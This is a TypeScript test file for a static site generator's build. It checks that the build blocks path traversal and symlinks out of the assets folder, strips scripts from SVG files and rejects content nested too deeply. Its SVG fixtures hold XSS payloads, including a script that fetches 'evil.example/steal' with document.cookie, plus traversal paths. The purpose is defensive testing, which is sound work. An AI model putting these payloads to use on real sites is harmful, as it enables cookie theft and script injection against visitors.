/**
 * What the build takes from the owner and must never let through: an image path that leads out of
 * assets/, an SVG logo with a script in it (published as favicon.svg, on the site's own origin),
 * and a content file nested so deep that reading it would overflow the stack. Each test builds a
 * copy of the real site, and a failed build must write nothing.
 */
import { existsSync } from 'node:fs';
import { cp, mkdir, mkdtemp, readFile, realpath, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import type { BuildResult } from '../../generate.ts';
import { BuildError, displayPath } from '../../generate/errors.ts';
import { sanitizeSvg } from '../../generate/images/svg.ts';
import { loadPage, placeIn, projectDir } from '../helpers/site.ts';
import { tempSite } from '../helpers/temp-site.ts';

/** The report's warnings about SVG files; the content's stand-ins and local pages warn too (production.test.ts, guard.test.ts). */
const svgWarnings = (warnings: string[]) => warnings.filter((warning) => warning.includes('removed from the published'));

const temp = tempSite();
let work: string;
let builds = 0;
beforeAll(async () => {
  work = temp.dir;
  // A file beside the project, which no build may publish.
  await mkdir(path.join(work, 'outside'));
  await writeFile(
    path.join(work, 'outside', 'secret.png'),
    await sharp({ create: { width: 64, height: 64, channels: 3, background: '#ff0000' } })
      .png()
      .toBuffer(),
  );
});

/** A copy of the real assets/ at `<work>/project/assets` (so `../../outside` from it is the secret), changed by `edit`. */
async function assetsWith(edit: (dir: string) => Promise<void>): Promise<string> {
  const dir = path.join(await mkdtemp(path.join(work, 'project-')), 'assets');
  await cp(path.join(projectDir, 'assets'), dir, { recursive: true });
  await edit(dir);
  return dir;
}

/** Builds into a new folder: the result, or the problems it failed with, after checking it wrote nothing. */
async function attempt(folders: {
  contentDir?: string;
  assetsDir?: string;
}): Promise<{ result: BuildResult; outDir: string } | { problems: string[] }> {
  const outDir = path.join(work, `dist-${++builds}`);
  try {
    const result = await temp.build({ ...folders, outDir, checkLinks: false });
    return { result, outDir };
  } catch (error) {
    if (!(error instanceof BuildError)) throw error;
    expect(existsSync(outDir), 'a failed build writes no output').toBe(false);
    return { problems: error.problems };
  }
}

const problemsOf = async (folders: { contentDir?: string; assetsDir?: string }) => {
  const outcome = await attempt(folders);
  if ('result' in outcome) throw new Error(`the build succeeded, writing ${outcome.outDir}`);
  return outcome.problems;
};

const shown = (dir: string, file: string) => displayPath(path.join(dir, file));

describe('image paths stay inside assets/', () => {
  it('refuses a src that climbs out, is absolute or uses backslashes, with the schema’s message', async () => {
    const assetsDir = await assetsWith(async () => {});
    const secret = path.join(work, 'outside', 'secret.png');
    for (const src of ['../../outside/secret.png', 'images/../../../outside/secret.png', secret, '..\\..\\outside\\secret.png']) {
      const content = await temp.contentWith('site.json', (site) => ({ ...site, logo: { ...site.logo, src } }));
      expect(await problemsOf({ contentDir: content, assetsDir }), src).toEqual([
        `${await placeIn(content, 'site.json', JSON.stringify(src))}: logo.src: must be a path inside assets/ ending in .jpg, .png, .webp, .svg or .avif`,
      ]);
    }
  });

  it('refuses a link inside assets/ (to a file or a folder) that leads out of it; a linked assets folder is fine', async () => {
    const outside = path.join(work, 'outside');
    const assetsDir = await assetsWith(async (dir) => {
      await symlink(path.join(outside, 'secret.png'), path.join(dir, 'images', 'secret.png'));
      await symlink(outside, path.join(dir, 'linked'));
    });
    const content = await temp.contentWith('services.json', (services) => {
      services['garage-door-cable-repair'].image.src = 'linked/secret.png';
      services['garage-door-replacement'].image.src = 'images/secret.png';
    });
    const realSecret = await realpath(path.join(outside, 'secret.png'));
    const refused = async (field: string, src: string) =>
      `${await placeIn(content, 'services.json', JSON.stringify(src))}: ["${field}"].image.src: image file ${displayPath(path.join(assetsDir, src))} is a link to ${displayPath(realSecret)}, outside the assets folder; copy the file into ${displayPath(assetsDir)}/ instead`;
    expect(await problemsOf({ contentDir: content, assetsDir })).toEqual([
      await refused('garage-door-cable-repair', 'linked/secret.png'),
      await refused('garage-door-replacement', 'images/secret.png'),
    ]);

    // The assets folder may itself be a link, and a link inside it may point inside it.
    const linkedAssets = path.join(work, 'linked-assets');
    await symlink(await assetsWith((dir) => symlink('hero.svg', path.join(dir, 'images', 'alias.svg'))), linkedAssets);
    const aliased = await temp.contentWith('services.json', (services) => {
      services['garage-door-replacement'].image.src = 'images/alias.svg';
    });
    expect(await attempt({ contentDir: aliased, assetsDir: linkedAssets })).toHaveProperty('result');
  });
});

describe('the SVG logo, published as favicon.svg', () => {
  const cleanLogo = () => readFile(path.join(projectDir, 'assets', 'logo.svg'), 'utf8');
  /** The logo as 64×64 pixels, to compare drawings rather than text. */
  const pixels = (svg: string | Buffer) => sharp(Buffer.from(svg)).resize(64, 64).raw().toBuffer();

  it('loses its scripts, handlers and outside references, draws as before, and the build says what it removed', async () => {
    const clean = await cleanLogo();
    const hostile = clean
      .replace('<svg ', '<svg xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(document.domain)" ')
      .replace(
        '</svg>',
        [
          '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
          '<image href="https://evil.example/x.png" width="64" height="64"/>',
          '<a href="javascript:alert(document.domain)"/>',
          '<use xlink:href="http://evil.example/sprite.svg#a"/>',
          '</svg>',
        ].join('\n'),
      );
    const assetsDir = await assetsWith((dir) => writeFile(path.join(dir, 'logo.svg'), hostile));
    const outcome = await attempt({ assetsDir });
    if (!('result' in outcome)) throw new Error(outcome.problems.join('\n'));

    const favicon = await readFile(path.join(outcome.outDir, 'favicon.svg'), 'utf8');
    // An <image> whose picture was outside draws nothing once unlinked, so it goes whole.
    for (const gone of ['<script', 'onload', 'evil.example', 'javascript:', 'http://evil', '<image']) expect(favicon).not.toContain(gone);
    expect(await pixels(favicon)).toEqual(await pixels(clean));
    // The header shows the same safe SVG.
    const headerLogo = loadPage(outcome.outDir, '/')('header a img').first().attr('src')!;
    expect(await readFile(path.join(outcome.outDir, headerLogo), 'utf8')).toBe(favicon);
    const warning =
      `${await placeIn(projectDir, 'content/site.json', '"logo.svg"', '"logo"')}: logo.src: logo.svg: removed from the published favicon.svg: onload attribute, <script>, ` +
      '<image href="https://evil.example/x.png"> (the picture it loads is not drawn), <a href="javascript:alert(document.domain)">, <use xlink:href="http://evil.example/sprite.svg#a">';
    expect(svgWarnings(outcome.result.warnings)).toEqual([warning]);
    // A second build takes the safe logo from the cache, and still says what was removed.
    const again = await attempt({ assetsDir });
    expect('result' in again && svgWarnings(again.result.warnings)).toEqual([warning]);

    // The real, clean logo: no warning, and its favicon.svg draws exactly as the logo does.
    const real = await attempt({});
    if (!('result' in real)) throw new Error(real.problems.join('\n'));
    expect(svgWarnings(real.result.warnings)).toEqual([]);
    expect(await pixels(await readFile(path.join(real.outDir, 'favicon.svg')))).toEqual(await pixels(clean));
  });
});

describe('an SVG illustration, published as SVG', () => {
  it('loses its scripts before it is published, and the build says what it removed', async () => {
    const clean = await readFile(path.join(projectDir, 'assets/images/hero.svg'), 'utf8');
    const hostile = clean.replace('</svg>', '<script>alert(document.domain)</script></svg>');
    const assetsDir = await assetsWith((dir) => writeFile(path.join(dir, 'images/hero.svg'), hostile));
    const outcome = await attempt({ assetsDir });
    if (!('result' in outcome)) throw new Error(outcome.problems.join('\n'));
    const src = loadPage(outcome.outDir, '/')('img[fetchpriority="high"]').attr('src')!;
    expect(src).toMatch(/^\/assets\/hero-[0-9a-f]{10}\.svg$/);
    expect(await readFile(path.join(outcome.outDir, src), 'utf8')).not.toContain('<script');
    const at = await placeIn(projectDir, 'content/pages/home.json', '"images/hero.svg"', '"hero"');
    expect(svgWarnings(outcome.result.warnings)).toEqual([
      `${at}: hero.image.src: images/hero.svg: removed from the published SVG: <script>`,
    ]);
  });

  it('that svgo cannot read fails as svgo says it, with the line and column images.ts reports', async () => {
    // images.ts tells this error from others by its name, and takes the line and column from its first line.
    const broken = '<svg xmlns="http://www.w3.org/2000/svg">\n  <g>\n    <rect width="1" height="1"/>\n</svg>';
    await expect(sanitizeSvg(broken)).rejects.toMatchObject({
      name: 'SvgoParserError',
      message: expect.stringMatching(/^<input>:4:\d+: /),
    });
  });
});

describe('content nested absurdly deep', () => {
  it('is one problem naming the file, line and column, not a stack overflow', async () => {
    const deep = '['.repeat(5000) + ']'.repeat(5000);
    let text = '';
    const content = await temp.contentWith('areas.json', (areas) => {
      areas.oxnard.whyChoose = '<deep>';
      text = JSON.stringify(areas, null, 2).replace('"<deep>"', deep);
      return text;
    });
    // The file's object and oxnard's are two levels, so the 63rd bracket opens the 65th level.
    const offset = text.indexOf(deep) + 62;
    const line = text.slice(0, offset).split('\n').length;
    const column = offset - text.lastIndexOf('\n', offset - 1);
    expect(await problemsOf({ contentDir: content })).toEqual([
      `${shown(content, 'areas.json')}:${line}:${column}: nested more than 64 levels deep; content is never nested that deep`,
    ]);
  });
});
